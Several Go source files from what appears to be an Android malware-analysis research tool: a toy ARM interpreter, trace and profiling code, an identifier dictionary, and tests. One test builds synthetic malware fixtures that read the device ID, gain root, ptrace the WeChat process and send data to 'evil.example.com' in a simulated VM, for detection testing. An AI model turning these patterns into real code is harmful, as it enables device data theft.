// Call invokes the named symbol with up to four arguments in R0-R3 and
// runs until the function returns (or the program exits or faults). The
// result is R0 at return.
func (m *Machine) Call(sym string, args ...int64) (int64, error) {
	entry, ok := m.lib.FindSymbol(sym)
	if !ok {
		return 0, fmt.Errorf("%w: %q in %s", ErrNoSymbol, sym, m.lib.Soname)
	}
	if len(args) > 4 {
		return 0, fmt.Errorf("nativebin: call %q: %d args exceeds 4-register convention", sym, len(args))
	}
	for i, a := range args {
		m.Regs[i] = a
	}
	m.exited = false
	if err := m.run(entry); err != nil {
		return m.Regs[0], err
	}
	return m.Regs[0], nil
}

// run executes from pc until a Ret at the top call frame.
func (m *Machine) run(pc int) error {
	type frame struct{ ret int }
	var frames []frame
	steps := 0
	for {
		if steps++; steps > m.StepBudget {
			return fmt.Errorf("%w after %d steps in %s", ErrStepBudget, steps-1, m.lib.Soname)
		}
		if m.exited {
			return nil
		}
		if pc < 0 || pc >= len(m.lib.Code) {
			// Falling off the end of the code behaves like Ret at top level,
			// matching a function assembled without an explicit return.
			if len(frames) == 0 {
				return nil
			}
			return fmt.Errorf("%w: pc %d outside code", ErrMemFault, pc)
		}
		in := m.lib.Code[pc]
		switch in.Op {
		case NopN:
		case MovI:
			m.Regs[in.Rd] = in.Imm
		case MovR:
			m.Regs[in.Rd] = m.Regs[in.Rs]
		case Ldrb:
			addr := m.Regs[in.Rs] + in.Imm
			if addr < 0 || addr >= MemSize {
				return fmt.Errorf("%w: ldrb at %#x (pc %d)", ErrMemFault, addr, pc)
			}
			m.Regs[in.Rd] = int64(m.mem[addr])
		case Strb:
			addr := m.Regs[in.Rs] + in.Imm
			if addr < 0 || addr >= MemSize {
				return fmt.Errorf("%w: strb at %#x (pc %d)", ErrMemFault, addr, pc)
			}
			m.mem[addr] = byte(m.Regs[in.Rd])
		case AddR:
			m.Regs[in.Rd] = m.Regs[in.Rs] + m.Regs[in.Rt]
		case SubR:
			m.Regs[in.Rd] = m.Regs[in.Rs] - m.Regs[in.Rt]
		case XorR:
			m.Regs[in.Rd] = m.Regs[in.Rs] ^ m.Regs[in.Rt]
		case AndR:
			m.Regs[in.Rd] = m.Regs[in.Rs] & m.Regs[in.Rt]
		case OrrR:
			m.Regs[in.Rd] = m.Regs[in.Rs] | m.Regs[in.Rt]
		case AddI:
			m.Regs[in.Rd] = m.Regs[in.Rs] + in.Imm
		case Cmp:
			m.flags = cmp64(m.Regs[in.Rs], m.Regs[in.Rt])
		case CmpI:
			m.flags = cmp64(m.Regs[in.Rs], in.Imm)
		case B:
			pc = in.Target
			continue
		case Beq:
			if m.flags == 0 {
				pc = in.Target
				continue
			}
		case Bne:
			if m.flags != 0 {
				pc = in.Target
				continue
			}
		case Blt:
			if m.flags < 0 {
				pc = in.Target
				continue
			}
		case Bge:
			if m.flags >= 0 {
				pc = in.Target
				continue
			}
		case Bl:
			entry, ok := m.lib.FindSymbol(in.Sym)
			if !ok {
				return fmt.Errorf("%w: bl %q (pc %d)", ErrNoSymbol, in.Sym, pc)
			}
			frames = append(frames, frame{ret: pc + 1})
			pc = entry
			continue
		case Svc:
			if err := m.trap(in.Imm); err != nil {
				return err
			}
		case Ret:
			if len(frames) == 0 {
				return nil
			}
			pc = frames[len(frames)-1].ret
			frames = frames[:len(frames)-1]
			continue
		case Push:
			m.stack = append(m.stack, m.Regs[in.Rd])
		case Pop:
			if len(m.stack) == 0 {
				return fmt.Errorf("nativebin: pop on empty stack (pc %d)", pc)
			}
			m.Regs[in.Rd] = m.stack[len(m.stack)-1]
			m.stack = m.stack[:len(m.stack)-1]
		default:
			return fmt.Errorf("nativebin: invalid opcode %d at pc %d", in.Op, pc)
		}
		pc++
	}
}

func (m *Machine) trap(num int64) error {
	if num == SysExit {
		m.exited = true
		return nil
	}
	if m.sys == nil {
		m.Regs[0] = -1
		return nil
	}
	args := [4]int64{m.Regs[0], m.Regs[1], m.Regs[2], m.Regs[3]}
	res, err := m.sys.Syscall(m, num, args)
	if err != nil {
		return fmt.Errorf("nativebin: svc %d: %w", num, err)
	}
	m.Regs[0] = res
	return nil
}

func cmp64(a, b int64) int {
	switch {
	case a < b:
		return -1
	case a > b:
		return 1
	default:
		return 0
	}
}
