package experiments

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/trace"
)

// TestRunStageQuantilesFromTraces: a healthy run carries exact per-span
// quantiles sourced from the collected traces, one "app" root per app.
func TestRunStageQuantilesFromTraces(t *testing.T) {
	res := small(t)
	st := res.RunStats
	if len(st.StageQuantiles) == 0 {
		t.Fatal("no stage quantiles collected")
	}
	for _, span := range []string{"app", "analyze", "unpack", "dynamic", "static", "replay"} {
		q, ok := st.StageQuantiles[span]
		if !ok || q.Count == 0 {
			t.Fatalf("span %q missing from quantiles: %+v", span, st.StageQuantiles)
		}
		if q.P50 <= 0 || q.P50 > q.P95 || q.P95 > q.P99 {
			t.Fatalf("span %q quantiles not monotone: %+v", span, q)
		}
	}
	if got, want := st.StageQuantiles["app"].Count, st.Apps; got != want {
		t.Fatalf("app span count = %d, want %d", got, want)
	}
	// Four replay configs per malware-flagged app.
	if got := st.StageQuantiles["replay"].Count; got%4 != 0 || got <= 0 || got > 4*st.Apps {
		t.Fatalf("replay span count = %d, want positive multiple of 4 <= %d", got, 4*st.Apps)
	}
	out := st.String()
	for _, want := range []string{"trace quantiles", "slowest apps:"} {
		if !strings.Contains(out, want) {
			t.Fatalf("RunStats rendering missing %q:\n%s", want, out)
		}
	}
}

// TestRunKeepsSlowestTraces: the runner retains a bounded, sorted list of
// the slowest app traces, each rooted at a span covering the whole app.
func TestRunKeepsSlowestTraces(t *testing.T) {
	res := small(t)
	slow := res.RunStats.Slowest
	if len(slow) == 0 {
		t.Fatal("no slow traces kept")
	}
	if len(slow) > 5 {
		t.Fatalf("kept %d traces, want <= default 5", len(slow))
	}
	for i, s := range slow {
		if s.Package == "" || s.Trace == nil || s.Trace.Root == nil {
			t.Fatalf("slow entry %d incomplete: %+v", i, s)
		}
		if s.Trace.Root.Name != "app" {
			t.Fatalf("slow entry %d root span = %q, want app", i, s.Trace.Root.Name)
		}
		if s.Total != s.Trace.Root.Duration() {
			t.Fatalf("slow entry %d total %s != root duration %s", i, s.Total, s.Trace.Root.Duration())
		}
		if i > 0 && s.Total > slow[i-1].Total {
			t.Fatalf("slow traces not sorted: %s > %s at %d", s.Total, slow[i-1].Total, i)
		}
	}
}

// TestRunWritesTraceDir: with TraceDir set, the run persists the kept
// traces as JSONL and the RunStats block as JSON, both round-trippable.
func TestRunWritesTraceDir(t *testing.T) {
	dir := t.TempDir()
	res, err := Run(Config{Seed: 17, Scale: 0.002, Workers: 2, TraceDir: dir, SlowTraces: 3})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if len(res.RunStats.Slowest) == 0 || len(res.RunStats.Slowest) > 3 {
		t.Fatalf("Slowest = %d entries, want 1..3", len(res.RunStats.Slowest))
	}

	f, err := os.Open(filepath.Join(dir, "traces.jsonl"))
	if err != nil {
		t.Fatalf("traces.jsonl: %v", err)
	}
	defer f.Close()
	traces, err := trace.DecodeJSONL(f)
	if err != nil {
		t.Fatalf("DecodeJSONL: %v", err)
	}
	if len(traces) != len(res.RunStats.Slowest) {
		t.Fatalf("persisted %d traces, want %d", len(traces), len(res.RunStats.Slowest))
	}
	for i, tr := range traces {
		if tr.Root == nil || tr.Root.Name != "app" {
			t.Fatalf("trace %d has no app root", i)
		}
		if tr.Root.Duration() <= 0 {
			t.Fatalf("trace %d root duration = %s", i, tr.Root.Duration())
		}
	}

	raw, err := os.ReadFile(filepath.Join(dir, "runstats.json"))
	if err != nil {
		t.Fatalf("runstats.json: %v", err)
	}
	var st RunStats
	if err := json.Unmarshal(raw, &st); err != nil {
		t.Fatalf("runstats.json decode: %v", err)
	}
	if st.Apps != res.RunStats.Apps || len(st.StageQuantiles) == 0 {
		t.Fatalf("persisted RunStats incomplete: apps=%d quantiles=%d", st.Apps, len(st.StageQuantiles))
	}
}

// TestQuantileExact pins the nearest-rank definition.
func TestQuantileExact(t *testing.T) {
	durs := []time.Duration{1, 2, 3, 4, 5, 6, 7, 8, 9, 10}
	cases := []struct {
		q    float64
		want time.Duration
	}{
		{0.50, 5}, {0.95, 10}, {0.99, 10}, {0.10, 1}, {1.0, 10},
	}
	for _, c := range cases {
		if got := quantileExact(durs, c.q); got != c.want {
			t.Fatalf("quantileExact(q=%v) = %d, want %d", c.q, got, c.want)
		}
	}
	if got := quantileExact(nil, 0.5); got != 0 {
		t.Fatalf("quantileExact(nil) = %d, want 0", got)
	}
}

// TestQuantileExactBoundaries pins the integer-ceiling ranks at the
// counts the float-epsilon implementation was prone to misrank: n where
// q·n is exactly integral, n=1, and large n.
func TestQuantileExactBoundaries(t *testing.T) {
	seq := func(n int) []time.Duration {
		out := make([]time.Duration, n)
		for i := range out {
			out[i] = time.Duration(i + 1) // sorted: value == rank
		}
		return out
	}
	cases := []struct {
		n    int
		q    float64
		want time.Duration // == ceil(q·n)
	}{
		// q·n exactly integral: nearest-rank must land on rank q·n, not q·n+1.
		{100, 0.95, 95},
		{100, 0.50, 50},
		{200, 0.99, 198},
		{20, 0.95, 19},
		{4, 0.25, 1},
		{10, 0.10, 1},
		// n=1: every quantile is the single observation.
		{1, 0.50, 1},
		{1, 0.95, 1},
		{1, 0.99, 1},
		// Non-integral q·n rounds up.
		{3, 0.50, 2},  // ceil(1.5)
		{7, 0.29, 3},  // ceil(2.03)
		{10, 0.95, 10}, // ceil(9.5)
		// Large n at an exactly-integral boundary.
		{1_000_000, 0.95, 950_000},
		{1_000_000, 0.99, 990_000},
		{9_999_999, 0.50, 5_000_000}, // ceil(4999999.5)
	}
	for _, c := range cases {
		if got := quantileExact(seq(c.n), c.q); got != c.want {
			t.Fatalf("quantileExact(n=%d, q=%v) = rank %d, want rank %d", c.n, c.q, got, c.want)
		}
	}
}

// TestStatsDoesNotMutateCollector: stats() is a getter — it must sort a
// copy, so the live distributions keep append order and interleaved
// add/stats sequences yield the same quantiles as a single batch.
func TestStatsDoesNotMutateCollector(t *testing.T) {
	base := time.Unix(0, 0)
	mk := func(d time.Duration) *trace.Trace {
		return &trace.Trace{ID: "t", Root: &trace.Span{Name: "app", StartAt: base, EndAt: base.Add(d)}}
	}
	c := newTraceCollector(0)
	// Descending insert order so an in-place sort is detectable.
	for _, d := range []time.Duration{50, 40, 30} {
		c.add("pkg", mk(d))
	}
	q1, _ := c.stats()
	if q1["app"].P50 != 40 {
		t.Fatalf("first stats p50 = %d, want 40", q1["app"].P50)
	}
	if got := c.durs["app"]; got[0] != 50 || got[1] != 40 || got[2] != 30 {
		t.Fatalf("stats() mutated the live distribution: %v", got)
	}
	// Interleaved adds after a stats call must still rank globally.
	for _, d := range []time.Duration{20, 10} {
		c.add("pkg", mk(d))
	}
	q2, _ := c.stats()
	if q2["app"].Count != 5 || q2["app"].P50 != 30 || q2["app"].P99 != 50 {
		t.Fatalf("second stats = %+v, want count 5, p50 30, p99 50", q2["app"])
	}
	// A fresh collector fed the same values in one batch agrees exactly.
	batch := newTraceCollector(0)
	for _, d := range []time.Duration{10, 20, 30, 40, 50} {
		batch.add("pkg", mk(d))
	}
	qb, _ := batch.stats()
	if qb["app"] != q2["app"] {
		t.Fatalf("interleaved stats %+v != batch stats %+v", q2["app"], qb["app"])
	}
}
