// Package words provides the English-language database used by the
// lexical-obfuscation detector — the offline stand-in for the DBpedia
// dump the paper compares identifiers against (§III-D). It embeds a list
// of common English words plus programming vocabulary, and a tokenizer
// that splits camelCase/snake_case identifiers.
package words

import "strings"

// DB is a word database. The zero value is empty; use Default for the
// embedded dictionary.
type DB struct {
	words map[string]bool
}

// New builds a database from the given words (lower-cased).
func New(list []string) *DB {
	db := &DB{words: make(map[string]bool, len(list))}
	for _, w := range list {
		db.words[strings.ToLower(w)] = true
	}
	return db
}

// Default returns the embedded dictionary.
func Default() *DB {
	return defaultDB
}

var defaultDB = New(embedded)

// Contains reports whether the word is in the database (case-insensitive).
func (db *DB) Contains(word string) bool {
	return db.words[strings.ToLower(word)]
}

// Len returns the dictionary size.
func (db *DB) Len() int { return len(db.words) }

// SplitIdentifier tokenizes a program identifier into candidate words:
// camelCase humps, snake_case segments, and digit boundaries.
// "getDeviceId" -> ["get", "device", "id"]; "ad_loader2" -> ["ad",
// "loader"].
func SplitIdentifier(id string) []string {
	var tokens []string
	var cur strings.Builder
	flush := func() {
		if cur.Len() > 0 {
			tokens = append(tokens, strings.ToLower(cur.String()))
			cur.Reset()
		}
	}
	runes := []rune(id)
	for i, r := range runes {
		switch {
		case r == '_' || r == '$' || r == '-' || (r >= '0' && r <= '9'):
			flush()
		case r >= 'A' && r <= 'Z':
			// New hump unless the previous rune was also uppercase
			// (acronym run, e.g. "URLConnection" -> "url", "connection").
			if i > 0 && !(runes[i-1] >= 'A' && runes[i-1] <= 'Z') {
				flush()
			} else if i+1 < len(runes) && runes[i+1] >= 'a' && runes[i+1] <= 'z' && cur.Len() > 1 {
				// End of an acronym run: "URLCon" splits before "Con".
				flush()
			}
			cur.WriteRune(r)
		default:
			cur.WriteRune(r)
		}
	}
	flush()
	return tokens
}

// MeaningfulFraction returns the fraction of identifier tokens found in
// the database, over all supplied identifiers. Single-letter tokens are
// never meaningful (they are exactly what ProGuard emits). Returns 1 for
// an empty input.
func (db *DB) MeaningfulFraction(identifiers []string) float64 {
	total, hits := 0, 0
	for _, id := range identifiers {
		for _, tok := range SplitIdentifier(id) {
			total++
			if len(tok) >= 2 && db.Contains(tok) {
				hits++
			}
		}
	}
	if total == 0 {
		return 1
	}
	return float64(hits) / float64(total)
}
