package profile

import (
	"fmt"
	"io"
	"sort"
	"time"

	"github.com/dydroid/dydroid/internal/stats"
)

// RenderIndex writes the profile index as an aligned table, the
// `apkinspect profile list` view.
func RenderIndex(w io.Writer, metas []Meta) {
	t := stats.NewTable("profile windows",
		"ID", "NODE", "TRIGGER", "DIGEST", "START", "DUR", "SAMPLES", "CPU", "TOP FUNCTION")
	for _, m := range metas {
		digest := m.Digest
		if len(digest) > 12 {
			digest = digest[:12]
		}
		t.Row(m.ID, m.Node, m.Trigger, digest,
			m.StartAt.UTC().Format("15:04:05.000"),
			time.Duration(m.DurationNS).Round(time.Millisecond),
			m.Samples, time.Duration(m.CPUNS).Round(time.Microsecond), m.TopFunc)
	}
	fmt.Fprint(w, t.String())
}

// RenderTop writes one window's top-functions table with its capture
// context — the `apkinspect profile top` view and the CI artifact.
func RenderTop(w io.Writer, win *Window, n int) {
	fmt.Fprintf(w, "window %s  node=%s  trigger=%s", win.ID, win.Node, win.Trigger)
	if win.Digest != "" {
		fmt.Fprintf(w, "  digest=%s", win.Digest)
	}
	fmt.Fprintln(w)
	fmt.Fprintf(w, "captured %s  wall=%s  cpu=%s  alloc=%s/%d objs  goroutines=%d\n",
		win.StartAt.UTC().Format(time.RFC3339),
		win.EndAt.Sub(win.StartAt).Round(time.Millisecond),
		time.Duration(win.Runtime.CPUNS).Round(time.Microsecond),
		byteCount(win.Runtime.AllocBytes), win.Runtime.AllocObjects, win.Runtime.Goroutines)
	if win.Err != "" {
		fmt.Fprintf(w, "capture error: %s\n", win.Err)
	}
	if win.Summary == nil {
		return
	}
	s := win.Summary
	fmt.Fprintf(w, "%d samples, %s total CPU in profile\n\n", s.Samples, time.Duration(s.TotalNS))
	t := stats.NewTable("top functions by flat self-time",
		"FUNCTION", "FLAT", "FLAT%", "CUM", "CUM%")
	top := s.Top
	if n > 0 && len(top) > n {
		top = top[:n]
	}
	for _, fc := range top {
		t.Row(fc.Func,
			time.Duration(fc.FlatNS), pctOf(fc.FlatNS, s.TotalNS),
			time.Duration(fc.CumNS), pctOf(fc.CumNS, s.TotalNS))
	}
	fmt.Fprint(w, t.String())
}

// RenderDiff writes the regression view between two windows: per
// function, flat self-time in the old and new window and the delta,
// sorted by absolute delta. This is how a "why did p99 double" question
// gets answered from two summaries alone.
func RenderDiff(w io.Writer, oldW, newW *Window, n int) {
	fmt.Fprintf(w, "old: window %s node=%s trigger=%s total=%s\n",
		oldW.ID, oldW.Node, oldW.Trigger, time.Duration(sumTotal(oldW)))
	fmt.Fprintf(w, "new: window %s node=%s trigger=%s total=%s\n\n",
		newW.ID, newW.Node, newW.Trigger, time.Duration(sumTotal(newW)))

	type row struct {
		fn           string
		oldNS, newNS int64
	}
	byFn := map[string]*row{}
	if oldW.Summary != nil {
		for _, fc := range oldW.Summary.Top {
			byFn[fc.Func] = &row{fn: fc.Func, oldNS: fc.FlatNS}
		}
	}
	if newW.Summary != nil {
		for _, fc := range newW.Summary.Top {
			r := byFn[fc.Func]
			if r == nil {
				r = &row{fn: fc.Func}
				byFn[fc.Func] = r
			}
			r.newNS = fc.FlatNS
		}
	}
	rows := make([]*row, 0, len(byFn))
	for _, r := range byFn {
		rows = append(rows, r)
	}
	sort.Slice(rows, func(i, j int) bool {
		di, dj := absInt64(rows[i].newNS-rows[i].oldNS), absInt64(rows[j].newNS-rows[j].oldNS)
		if di != dj {
			return di > dj
		}
		return rows[i].fn < rows[j].fn
	})
	if n > 0 && len(rows) > n {
		rows = rows[:n]
	}
	t := stats.NewTable("flat self-time regression (new - old)",
		"FUNCTION", "OLD FLAT", "NEW FLAT", "DELTA", "DELTA%")
	for _, r := range rows {
		d := r.newNS - r.oldNS
		sign := ""
		if d > 0 {
			sign = "+"
		}
		t.Row(r.fn, time.Duration(r.oldNS), time.Duration(r.newNS),
			sign+time.Duration(d).String(), deltaPct(r.oldNS, r.newNS))
	}
	fmt.Fprint(w, t.String())
}

func sumTotal(w *Window) int64 {
	if w.Summary == nil {
		return 0
	}
	return w.Summary.TotalNS
}

func pctOf(part, total int64) string {
	if total == 0 {
		return "0.0%"
	}
	return fmt.Sprintf("%.1f%%", 100*float64(part)/float64(total))
}

func deltaPct(oldV, newV int64) string {
	if oldV == 0 {
		if newV == 0 {
			return "0.0%"
		}
		return "new"
	}
	return fmt.Sprintf("%+.1f%%", 100*float64(newV-oldV)/float64(oldV))
}

func absInt64(v int64) int64 {
	if v < 0 {
		return -v
	}
	return v
}

// byteCount renders a byte count with a binary unit suffix.
func byteCount(b int64) string {
	const unit = 1024
	if b < unit {
		return fmt.Sprintf("%dB", b)
	}
	div, exp := int64(unit), 0
	for n := b / unit; n >= unit; n /= unit {
		div *= unit
		exp++
	}
	return fmt.Sprintf("%.1f%ciB", float64(b)/float64(div), "KMGTPE"[exp])
}
