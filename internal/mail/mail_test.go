package mail

import (
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/nativebin"
)

func TestFromDexPatterns(t *testing.T) {
	b := dex.NewBuilder()
	cls := b.Class("com.mal.Payload", "java.lang.Object")
	m := cls.Method("steal", dex.ACCPublic, 6, "V")
	m.NewInstance(1, "android.telephony.TelephonyManager").
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
			Name: "getDeviceId", Sig: "()Ljava/lang/String;"}, 1).
		MoveResult(2).
		IfEqz(2, "skip").
		InvokeVirtual(dex.MethodRef{Class: "com.mal.Payload", Name: "send", Sig: "(Ljava/lang/String;)V"}, 0, 2).
		Label("skip").
		ReturnVoid().
		Done()
	cls.Method("send", dex.ACCPublic, 2, "V", "Ljava/lang/String;").ReturnVoid().Done()

	p := FromDex(b.File())
	if len(p.Functions) != 2 {
		t.Fatalf("functions = %d, want 2", len(p.Functions))
	}
	steal := p.Functions[0]
	if steal.Name != "com.mal.Payload.steal" {
		t.Fatalf("name = %q", steal.Name)
	}
	// Block 0: ASSIGN(new), LIB(getDeviceId), ASSIGN(move-result), CONTROL(if)
	if got := steal.Blocks[0].Sig(); got != "ALAC" {
		t.Fatalf("block0 sig = %q, want ALAC", got)
	}
	// There must be a CALL pattern somewhere (the app-internal send).
	found := false
	for _, blk := range steal.Blocks {
		if strings.Contains(blk.Sig(), "F") {
			found = true
		}
	}
	if !found {
		t.Fatal("no CALL pattern for app-internal invoke")
	}
	if p.TotalBlocks() == 0 {
		t.Fatal("TotalBlocks = 0")
	}
}

func TestFromDexSkipsEmptyMethods(t *testing.T) {
	b := dex.NewBuilder()
	b.Class("a.B", "java.lang.Object").NativeMethod("n", "V")
	p := FromDex(b.File())
	if len(p.Functions) != 0 {
		t.Fatalf("native (empty) methods should be skipped, got %d functions", len(p.Functions))
	}
}

func chathookLib() *nativebin.Library {
	b := nativebin.NewBuilder("libhook.so", "arm")
	target := b.CString("com.tencent.mm")
	host := b.CString("evil.example.com")
	b.Symbol("Java_com_mal_Hook_attack").
		MovI(0, 0).
		Svc(nativebin.SysSetuid). // get root
		MovI(0, target).
		Svc(nativebin.SysFindProc).
		CmpI(0, 0).
		Blt("out").
		Svc(nativebin.SysPtrace).
		MovI(0, host).
		Svc(nativebin.SysConnect).
		MovR(3, 0).
		MovI(1, nativebin.DataBase).
		MovI(2, 4).
		MovR(0, 3).
		Svc(nativebin.SysSend).
		Label("out").
		Ret()
	return b.Build()
}

func TestFromNativePatterns(t *testing.T) {
	p := FromNative(chathookLib())
	if len(p.Functions) != 1 {
		t.Fatalf("functions = %d, want 1", len(p.Functions))
	}
	fn := p.Functions[0]
	if fn.Name != "Java_com_mal_Hook_attack" {
		t.Fatalf("name = %q", fn.Name)
	}
	var all strings.Builder
	for _, blk := range fn.Blocks {
		all.WriteString(blk.Sig())
		all.WriteString(" ")
	}
	sigs := all.String()
	for _, want := range []string{"L", "T", "C", "H"} {
		if !strings.Contains(sigs, want) {
			t.Fatalf("missing pattern %s in %q", want, sigs)
		}
	}
	if p.Source != "native-arm" {
		t.Fatalf("source = %q", p.Source)
	}
}

func TestFromNativeMultipleSymbols(t *testing.T) {
	b := nativebin.NewBuilder("libx.so", "arm")
	b.Symbol("f").MovI(0, 1).Ret()
	b.Symbol("g").MovI(0, 2).Bl("f").Ret()
	p := FromNative(b.Build())
	if len(p.Functions) != 2 {
		t.Fatalf("functions = %d, want 2", len(p.Functions))
	}
	if p.Functions[1].Name != "g" {
		t.Fatalf("second function = %q", p.Functions[1].Name)
	}
	// g contains a CALL.
	if !strings.Contains(p.Functions[1].Blocks[0].Sig(), "F") {
		t.Fatalf("g sig = %q", p.Functions[1].Blocks[0].Sig())
	}
}

func TestFromNativeEmpty(t *testing.T) {
	p := FromNative(&nativebin.Library{Soname: "e.so", Arch: "arm"})
	if len(p.Functions) != 0 {
		t.Fatal("empty lib produced functions")
	}
}

func TestFromNativeUnlabeledPrefix(t *testing.T) {
	// Code before the first symbol becomes a _start function.
	lib := &nativebin.Library{
		Soname: "p.so", Arch: "arm",
		Symbols: []nativebin.Symbol{{Name: "f", Entry: 2}},
		Code: []nativebin.Instr{
			{Op: nativebin.MovI, Rd: 0, Imm: 1},
			{Op: nativebin.Ret},
			{Op: nativebin.MovI, Rd: 0, Imm: 2},
			{Op: nativebin.Ret},
		},
	}
	p := FromNative(lib)
	if len(p.Functions) != 2 || p.Functions[0].Name != "_start" {
		t.Fatalf("functions = %+v", p.Functions)
	}
}
