package netsim

import (
	"bytes"
	"errors"
	"testing"
)

// memRecorder captures events for assertions.
type memRecorder struct {
	urls  map[ObjectID]string
	flows [][2]ObjectID
	binds map[ObjectID]string
}

func newMemRecorder() *memRecorder {
	return &memRecorder{urls: map[ObjectID]string{}, binds: map[ObjectID]string{}}
}

func (m *memRecorder) RecordURLInit(obj ObjectID, url string)   { m.urls[obj] = url }
func (m *memRecorder) RecordFlow(from, to ObjectID)             { m.flows = append(m.flows, [2]ObjectID{from, to}) }
func (m *memRecorder) RecordFileBind(obj ObjectID, path string) { m.binds[obj] = path }

func (m *memRecorder) hasFlow(fromType, toType string) bool {
	for _, f := range m.flows {
		if f[0].Type == fromType && f[1].Type == toType {
			return true
		}
	}
	return false
}

func TestDownloadChainEmitsTableIFlows(t *testing.T) {
	rec := newMemRecorder()
	fac := NewFactory(rec)
	net := NewNetwork()
	net.Serve("http://mobads.baidu.com/ads/pa/x.jar", Payload{Data: []byte("JARDATA")})

	u := fac.NewURL("http://mobads.baidu.com/ads/pa/x.jar")
	in, err := net.OpenStream(fac, u)
	if err != nil {
		t.Fatalf("OpenStream: %v", err)
	}
	out := fac.NewOutputStream("/data/data/app/cache/x.jar")
	for {
		buf := in.Read(4)
		if buf == nil {
			break
		}
		out.Write(buf)
	}
	fv := out.CloseToFile()

	if !bytes.Equal(out.Data, []byte("JARDATA")) {
		t.Fatalf("downloaded %q", out.Data)
	}
	if rec.urls[u.ID] != u.Spec {
		t.Fatal("URL init not recorded")
	}
	if rec.binds[fv.ID] != "/data/data/app/cache/x.jar" {
		t.Fatal("file bind not recorded")
	}
	for _, pair := range [][2]string{
		{TypeURL, TypeInputStream},
		{TypeInputStream, TypeBuffer},
		{TypeBuffer, TypeOutputStream},
		{TypeOutputStream, TypeFile},
	} {
		if !rec.hasFlow(pair[0], pair[1]) {
			t.Fatalf("missing %s -> %s flow", pair[0], pair[1])
		}
	}
}

func TestWrapAndBufferStreams(t *testing.T) {
	rec := newMemRecorder()
	fac := NewFactory(rec)
	in := fac.NewInputStream([]byte("abcdef"))
	wrapped := in.Wrap() // InputStream -> InputStream
	b := wrapped.ReadAll()
	if string(b.Data) != "abcdef" {
		t.Fatalf("ReadAll via wrap = %q", b.Data)
	}
	s2 := b.AsInputStream() // Buffer -> InputStream
	if s2.Len() != 6 {
		t.Fatalf("AsInputStream len = %d", s2.Len())
	}
	out1 := fac.NewOutputStream("")
	out1.Write(b)
	out2 := fac.NewOutputStream("/tmp/x")
	out1.DrainTo(out2) // OutputStream -> OutputStream
	snap := out2.ToBuffer()
	if string(snap.Data) != "abcdef" {
		t.Fatalf("ToBuffer = %q", snap.Data)
	}
	for _, pair := range [][2]string{
		{TypeInputStream, TypeInputStream},
		{TypeBuffer, TypeInputStream},
		{TypeOutputStream, TypeOutputStream},
		{TypeOutputStream, TypeBuffer},
	} {
		if !rec.hasFlow(pair[0], pair[1]) {
			t.Fatalf("missing %s -> %s flow", pair[0], pair[1])
		}
	}
}

func TestFileFlows(t *testing.T) {
	rec := newMemRecorder()
	fac := NewFactory(rec)
	f1 := fac.NewFile("/a/b.dex")
	f2 := f1.CopyTo("/c/d.dex") // File -> File
	in := f2.Open([]byte("x"))  // File -> InputStream
	if in.Len() != 1 {
		t.Fatal("Open lost data")
	}
	if !rec.hasFlow(TypeFile, TypeFile) || !rec.hasFlow(TypeFile, TypeInputStream) {
		t.Fatal("missing file flows")
	}
	if rec.binds[f2.ID] != "/c/d.dex" {
		t.Fatal("copy destination not bound")
	}
}

func TestReadPastEnd(t *testing.T) {
	fac := NewFactory(nil)
	in := fac.NewInputStream([]byte("ab"))
	if b := in.Read(10); string(b.Data) != "ab" {
		t.Fatalf("Read = %q", b.Data)
	}
	if b := in.Read(1); b != nil {
		t.Fatal("Read past end returned data")
	}
	if b := in.ReadAll(); b == nil || len(b.Data) != 0 {
		t.Fatal("ReadAll at EOF should return empty buffer")
	}
}

func TestNetworkOfflineAndMissing(t *testing.T) {
	net := NewNetwork()
	net.Serve("http://x.com/a", Payload{Data: []byte("1")})
	online := true
	net.Online = func() bool { return online }

	if _, err := net.Fetch("http://x.com/a"); err != nil {
		t.Fatalf("online fetch: %v", err)
	}
	online = false
	if _, err := net.Fetch("http://x.com/a"); !errors.Is(err, ErrOffline) {
		t.Fatalf("offline fetch err = %v", err)
	}
	online = true
	if _, err := net.Fetch("http://x.com/missing"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("missing fetch err = %v", err)
	}
	if _, err := net.Fetch("gopher://x.com/a"); err == nil {
		t.Fatal("bad scheme accepted")
	}
	net.Unserve("http://x.com/a")
	if _, err := net.Fetch("http://x.com/a"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("unserved fetch err = %v", err)
	}
	fetches := net.Fetches()
	// Offline and bad-scheme fetches are rejected before recording.
	if len(fetches) != 3 {
		t.Fatalf("Fetches recorded %d, want 3: %v", len(fetches), fetches)
	}
}

func TestSchemes(t *testing.T) {
	net := NewNetwork()
	for _, u := range []string{"http://a/b", "https://a/b", "ftp://a/b"} {
		net.Serve(u, Payload{Data: []byte("d")})
		if _, err := net.Fetch(u); err != nil {
			t.Fatalf("Fetch(%s): %v", u, err)
		}
	}
}

func TestObjectIDsUnique(t *testing.T) {
	fac := NewFactory(nil)
	seen := map[ObjectID]bool{}
	for i := 0; i < 100; i++ {
		id := fac.NewBuffer(nil).ID
		if seen[id] {
			t.Fatalf("duplicate object id %v", id)
		}
		seen[id] = true
	}
}
