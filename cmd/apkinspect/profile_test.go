package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/profile"
)

// profileServer serves a canned window ring over the worker profile API.
func profileServer(t *testing.T, wins ...*profile.Window) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("GET /v1/profiles", func(w http.ResponseWriter, r *http.Request) {
		metas := make([]profile.Meta, 0, len(wins))
		for i := len(wins) - 1; i >= 0; i-- {
			metas = append(metas, wins[i].Meta())
		}
		json.NewEncoder(w).Encode(metas)
	})
	mux.HandleFunc("GET /v1/profiles/{id}", func(w http.ResponseWriter, r *http.Request) {
		for _, win := range wins {
			if win.ID == r.PathValue("id") {
				json.NewEncoder(w).Encode(win)
				return
			}
		}
		http.Error(w, `{"error":"unknown profile window"}`, http.StatusNotFound)
	})
	ts := httptest.NewServer(mux)
	t.Cleanup(ts.Close)
	return ts
}

func testWindow(id string, at time.Time, flatNS int64) *profile.Window {
	return &profile.Window{
		ID: id, Node: "w1", Trigger: profile.TriggerSampler,
